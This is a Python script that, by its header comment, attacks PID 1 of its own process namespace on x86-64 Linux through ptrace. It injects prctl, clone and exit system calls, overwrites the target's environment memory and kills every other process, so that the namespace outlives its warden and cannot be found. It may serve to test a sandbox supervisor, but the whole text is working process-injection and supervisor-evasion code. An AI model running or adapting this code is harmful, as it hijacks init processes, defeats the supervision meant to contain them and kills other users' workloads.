# Attacks the first process of its own process namespace by ptrace (x86-64), so that the namespace outlives its warden and
# cannot be found: that process is no longer to die with its parent, and loses its environment. A program without an
# environment of its own then kills all others, and goes on: `take-over.py SECONDS`. Writes "taken over" first. With
# `take-over.py SECONDS zombie`, the first thread of that process ends, and only a second one lives on.
import contextlib, ctypes, os, sys, time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
POKE, STEP, GET, SET, ATTACH, DETACH = 4, 9, 12, 13, 16, 17
R10, RAX, RDX, RSI, RDI, ORIG_RAX, RIP = 7, 10, 12, 13, 14, 15, 16
PRCTL, CLONE, EXIT = 157, 56, 60
PR_SET_PDEATHSIG = 1
THREAD = 0x50F00  # CLONE_VM, FS, FILES, SIGHAND, THREAD and SYSVSEM


def ptrace(request, address=0, data=0):
    if libc.ptrace(request, 1, address, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def go_on():
    os.kill(os.getppid(), 9)
    while os.getppid() != 1:
        time.sleep(0.01)
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid not in (1, os.getpid()):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, 9)
    os.execve("/bin/sleep", ["sleep", sys.argv[1]], {})


if "go on" in sys.argv:
    go_on()
if os.fork() > 0:
    time.sleep(60)
    sys.exit(1)
os.setsid()
fields = open("/proc/1/stat").read().rsplit(")", 1)[1].split()
first, last = int(fields[47]), int(fields[48])
ptrace(ATTACH)
os.waitpid(1, 0x40000000)
saved = (ctypes.c_ulonglong * 27)()
ptrace(GET, 0, ctypes.addressof(saved))


def call(number, first=0):
    registers = (ctypes.c_ulonglong * 27)(*saved)
    registers[RIP] -= 2  # back to the instruction of the system call that it waits in
    registers[RAX], registers[ORIG_RAX], registers[RDI], registers[RSI] = number, 2**64 - 1, first, 0
    registers[R10], registers[RDX] = 0, 0
    ptrace(SET, 0, ctypes.addressof(registers))


def step():
    ptrace(STEP)
    os.waitpid(1, 0x40000000)


call(PRCTL, PR_SET_PDEATHSIG)
step()
for address in range(first & ~7, last, 8):
    ptrace(POKE, address, 0)
if "zombie" in sys.argv:
    call(CLONE, THREAD)
    step()
    call(EXIT)  # when this program is killed, which traces it: the command's own first process ends with it
else:
    saved[RAX], saved[ORIG_RAX] = 2**64 - 4, 2**64 - 1  # EINTR
    ptrace(SET, 0, ctypes.addressof(saved))
    ptrace(DETACH)
print("taken over", flush=True)
if os.fork() == 0:
    os.setsid()
    os.execve(sys.executable, [sys.executable, *sys.argv, "go on"], {})
time.sleep(60)
